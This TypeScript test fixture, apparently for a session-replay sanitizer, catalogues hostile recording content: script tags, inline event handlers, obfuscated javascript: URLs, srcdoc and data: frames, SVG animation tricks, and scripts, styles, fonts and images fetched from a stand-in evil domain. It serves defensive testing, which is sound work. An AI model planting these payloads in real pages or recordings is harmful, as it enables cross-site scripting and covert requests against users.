/** Content of a recording that tries to run a script, make a request, navigate, open a window or play a sound. */
import { type ElementNode, element, svg } from './nodes';
import { EVIL_DOMAIN } from './wire';

export interface Kind {
  readonly name: string;
  /** Its effect without protection. */
  readonly harm: 'runs' | 'asks' | 'opens a window' | 'plays';
  readonly nodes?: (evil: string, run: string) => ElementNode[];
  readonly head?: (evil: string, run: string) => ElementNode[];
  /** Code that has the same effect on a page as the `events` have in a replay. */
  readonly script?: (evil: string) => string;
  readonly events?: (evil: string, ids: { body: number; sheet: number }) => object[];
  /** The site's policy does not cover it: the sanitizer or the sandbox must. */
  readonly isBeyondPolicy?: true;
}

/** The origin that its requests go to. */
export function evilOf({ name }: Kind): string {
  return `https://${slugOf(name)}.${EVIL_DOMAIN}`;
}

/** A script that leaves a trace in its own window, in the top window, and as a request. */
export function runOf(kind: Kind): string {
  const sign = `ran??={})['${slugOf(kind.name)}']=1`;
  return `(window.${sign};try{(top.${sign}}catch{};fetch('${evilOf(kind)}/ran').catch(()=>{})`;
}

/** The name as a host label. */
export function slugOf(name: string): string {
  return name.replaceAll(/[^a-z]+/gi, '-').toLowerCase();
}

const poke = { 'data-poke': '' };
/** Half a second of silence. */
const SOUND = `data:audio/wav;base64,${Buffer.concat([
  Buffer.from('52494646c40f000057415645666d7420100000000100010040 1f0000401f000001000800 64617461a00f0000'.replaceAll(' ', ''), 'hex'),
  Buffer.alloc(4000, 128),
]).toString('base64')}`;

const SCRIPTS: Kind[] = [
  { name: 'a script', harm: 'runs', nodes: (_, run) => [element('script', {}, run)] },
  { name: 'a script from elsewhere', harm: 'asks', nodes: (evil) => [element('script', { src: `${evil}/a.js` })] },
  { name: 'a module', harm: 'runs', nodes: (_, run) => [element('script', { type: 'module' }, run)] },
  { name: 'a script of an SVG', harm: 'runs', nodes: (_, run) => [svg('svg', {}, svg('script', {}, run))] },
  {
    name: 'a script of an SVG from elsewhere',
    harm: 'asks',
    nodes: (evil) => [svg('svg', {}, svg('script', { href: `${evil}/a.js` }))],
  },
  {
    name: 'a page within an SVG',
    harm: 'runs',
    nodes: (_, run) => [
      svg('svg', {}, svg('foreignObject', { width: '9', height: '9' }, element('iframe', { srcdoc: `<script>${run}</script>` }))),
    ],
  },
];

const HANDLERS: Kind[] = [
  { name: 'a handler of an image', harm: 'runs', nodes: (_, run) => [element('img', { src: 'data:,', onerror: run })] },
  { name: 'a handler of an SVG', harm: 'runs', nodes: (_, run) => [svg('svg', { onload: run })] },
  {
    name: 'a handler of a box that is opened',
    harm: 'runs',
    nodes: (_, run) => [element('details', { open: '', ontoggle: run }, element('summary', {}, 'more'))],
  },
  { name: 'a handler of a field that has the focus', harm: 'runs', nodes: (_, run) => [element('input', { autofocus: '', onfocus: run })] },
  {
    name: 'a handler of an animation',
    harm: 'runs',
    nodes: (_, run) => [
      element('style', { _cssText: '@keyframes a { to { opacity: 0.9 } }' }),
      element('p', { style: 'animation: a 1s', onanimationstart: run }, 'moves'),
    ],
  },
  { name: 'a handler of a click', harm: 'runs', nodes: (_, run) => [element('p', { onclick: run, ...poke }, 'here')] },
  { name: 'a handler of an animation of an SVG', harm: 'runs', nodes: (_, run) => [svg('svg', {}, svg('animate', { attributeName: 'x', dur: '1s', onbegin: run }))] },
];

const ADDRESSES: Kind[] = [
  { name: 'a link to a script', harm: 'runs', nodes: (_, run) => [element('a', { href: `javascript:${run}`, ...poke }, 'go')] },
  {
    name: 'a link to a script, with blanks in it',
    harm: 'runs',
    nodes: (_, run) => [element('a', { href: ` java\nscript:${run}`, ...poke }, 'go')],
  },
  {
    name: 'a link of an SVG to a script',
    harm: 'runs',
    nodes: (_, run) => [svg('svg', {}, svg('a', { 'xlink:href': `javascript:${run}`, ...poke }, svg('text', { y: '9' }, 'go')))],
  },
  {
    name: 'an animation that makes a link one to a script',
    harm: 'runs',
    nodes: (_, run) => [
      svg(
        'svg',
        {},
        svg('a', { href: '#', ...poke }, svg('set', { attributeName: 'href', to: `javascript:${run}` }), svg('text', { y: '9' }, 'go')),
      ),
    ],
  },
  { name: 'a frame with a script for its address', harm: 'runs', nodes: (_, run) => [element('iframe', { src: `javascript:${run}` })] },
  {
    name: 'a form that is sent to a script',
    harm: 'runs',
    nodes: (_, run) => [element('form', { action: `javascript:${run}` }, element('button', poke, 'Send'))],
  },
  {
    name: 'a button that sends a form to a script',
    harm: 'runs',
    nodes: (_, run) => [element('form', {}, element('button', { formaction: `javascript:${run}`, ...poke }, 'Send'))],
  },
];

const FRAMES: Kind[] = [
  { name: 'a frame from elsewhere', harm: 'asks', nodes: (evil) => [element('iframe', { src: `${evil}/frame` })] },
  { name: 'a frame with a page in an attribute', harm: 'runs', nodes: (_, run) => [element('iframe', { srcdoc: `<script>${run}</script>` })] },
  {
    name: 'a frame with a page in its address',
    harm: 'runs',
    nodes: (_, run) => [element('iframe', { src: `data:text/html,<script>${encodeURIComponent(run)}</script>` })],
  },
  { name: 'an object', harm: 'asks', nodes: (evil) => [element('object', { data: `${evil}/object.html` })] },
  { name: 'something embedded', harm: 'asks', nodes: (evil) => [element('embed', { src: `${evil}/embed.html` })] },
];

const LEADING_AWAY: Kind[] = [
  {
    name: 'a form that is sent',
    harm: 'asks',
    nodes: (evil) => [element('form', { action: `${evil}/form`, method: 'post' }, element('button', poke, 'Send'))],
  },
  {
    name: 'a page that goes elsewhere by itself',
    harm: 'asks',
    head: (evil) => [element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` })],
  },
  {
    name: 'a base for every address',
    harm: 'asks',
    head: (evil) => [element('base', { href: evil })],
    nodes: () => [element('img', { src: 'relative.png' })],
  },
  {
    name: 'a link that opens a window',
    harm: 'opens a window',
    nodes: (evil) => [element('a', { href: `${evil}/window`, target: '_blank', ...poke }, 'go')],
    isBeyondPolicy: true,
  },
  {
    name: 'a form that opens a window',
    harm: 'opens a window',
    nodes: (evil) => [element('form', { action: `${evil}/form`, target: '_blank' }, element('button', poke, 'Send'))],
  },
  {
    name: 'a link that tells of its click',
    harm: 'asks',
    nodes: (evil) => [element('a', { href: '#here', ping: `${evil}/ping`, ...poke }, 'go')],
  },
];

const LINKS: Kind[] = [
  { name: 'a page fetched beforehand', harm: 'asks', head: (evil) => [element('link', { rel: 'prefetch', href: `${evil}/a` })] },
  {
    name: 'an image loaded beforehand',
    harm: 'asks',
    head: (evil) => [element('link', { rel: 'preload', as: 'image', href: `${evil}/a.png` })],
  },
  { name: 'a module loaded beforehand', harm: 'asks', head: (evil) => [element('link', { rel: 'modulepreload', href: `${evil}/a.js` })] },
  { name: 'a style sheet from elsewhere', harm: 'asks', head: (evil) => [element('link', { rel: 'stylesheet', href: `${evil}/a.css` })] },
];

const STYLES: Kind[] = [
  {
    name: 'a style sheet that imports another',
    harm: 'asks',
    head: (evil) => [element('style', { _cssText: `@import url(${evil}/a.css);` })],
  },
  {
    name: 'a font from elsewhere',
    harm: 'asks',
    head: (evil) => [element('style', { _cssText: `@font-face { font-family: f; src: url(${evil}/a.woff2) } p { font-family: f }` })],
    nodes: () => [element('p', {}, 'in that font')],
  },
  {
    name: 'a rule with an image',
    harm: 'asks',
    head: (evil) => [element('style', { _cssText: `p { background: url(${evil}/a.png) }` })],
    nodes: () => [element('p', {}, 'on that image')],
  },
  { name: 'a style of an element', harm: 'asks', nodes: (evil) => [element('p', { style: `background: url(${evil}/a.png)` }, 'here')] },
  { name: 'a set of images in a style', harm: 'asks', nodes: (evil) => [element('p', { style: `background: image-set("${evil}/a.png" 1x)` }, 'here')] },
  {
    name: 'a background of an old kind',
    harm: 'asks',
    nodes: (evil) => [element('table', { background: `${evil}/a.png` }, element('tbody', {}, element('tr', {}, element('td', {}, 'here'))))],
  },
  {
    name: 'a rule that is added',
    harm: 'asks',
    script: (evil) => `document.styleSheets[0].insertRule('body { background: url(${evil}/a.png) }')`,
    events: (evil, { sheet }) => [{ source: 8, id: sheet, adds: [{ rule: `body { background: url(${evil}/a.png) }`, index: 0 }] }],
  },
  {
    name: 'a declaration that is changed',
    harm: 'asks',
    script: (evil) => `document.styleSheets[0].cssRules[0].style.setProperty('background', 'url(${evil}/a.png)')`,
    events: (evil, { sheet }) => [
      { source: 13, id: sheet, index: [0], set: { property: 'background', value: `url(${evil}/a.png)`, priority: '' } },
    ],
  },
  {
    name: 'a style sheet that is adopted',
    harm: 'asks',
    script: (evil) =>
      `{ const s = new CSSStyleSheet(); s.replaceSync('body { background: url(${evil}/a.png) }'); document.adoptedStyleSheets = [s] }`,
    events: (evil) => [
      { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `body { background: url(${evil}/a.png) }`, index: 0 }] }] },
    ],
  },
  {
    name: 'a font that is loaded',
    harm: 'asks',
    script: (evil) => `{ const f = new FontFace('g', 'url(${evil}/a.woff2)'); document.fonts.add(f); f.load().catch(() => {}) }`,
    events: (evil) => [{ source: 10, family: 'g', fontSource: `url(${evil}/a.woff2)`, buffer: false }],
  },
];

const PICTURES: Kind[] = [
  { name: 'an image', harm: 'asks', nodes: (evil) => [element('img', { src: `${evil}/a.png` })] },
  { name: 'an image of several', harm: 'asks', nodes: (evil) => [element('img', { srcset: `${evil}/a.png 1x` })] },
  {
    name: 'an image by its source',
    harm: 'asks',
    nodes: (evil) => [element('picture', {}, element('source', { srcset: `${evil}/a.png` }), element('img', {}))],
  },
  { name: 'an image for a button', harm: 'asks', nodes: (evil) => [element('input', { type: 'image', src: `${evil}/a.png` })] },
  { name: 'an image of an SVG', harm: 'asks', nodes: (evil) => [svg('svg', {}, svg('image', { href: `${evil}/a.png`, width: '9', height: '9' }))] },
  {
    name: 'a filter of an SVG',
    harm: 'asks',
    nodes: (evil) => [
      svg('svg', {}, svg('filter', { id: 'f' }, svg('feImage', { href: `${evil}/a.png` })), svg('rect', { width: '9', height: '9', filter: 'url(#f)' })),
    ],
  },
  { name: 'a film', harm: 'asks', nodes: (evil) => [element('video', { src: `${evil}/a.mp4`, autoplay: '', muted: '' })] },
  { name: 'the still of a film', harm: 'asks', nodes: (evil) => [element('video', { poster: `${evil}/a.png` })] },
  {
    name: 'a sound',
    harm: 'plays',
    nodes: () => [element('audio', { src: SOUND, autoplay: '', loop: '', muted: '', rr_mediaState: 'played' })],
  },
  {
    name: 'a canvas that draws an image',
    harm: 'asks',
    nodes: () => [element('canvas', { width: '9', height: '9' })],
    script: (evil) => `{ const i = new Image(); i.src = '${evil}/a.png'; i.onload = () => document.querySelector('canvas').getContext('2d').drawImage(i, 0, 0) }`,
    events: (evil) => [
      {
        source: 9,
        id: 1,
        type: 0,
        commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${evil}/a.png` }, 0, 0] }],
      },
    ],
  },
];

/** Each group is one recording. */
export const GROUPS: readonly (readonly [string, readonly Kind[]])[] = [
  ['scripts', SCRIPTS],
  ['handlers', HANDLERS],
  ['addresses of scripts', ADDRESSES],
  ['frames', FRAMES],
  ['navigation', LEADING_AWAY],
  ['preloading', LINKS],
  ['styles', STYLES],
  ['pictures and sounds', PICTURES],
];
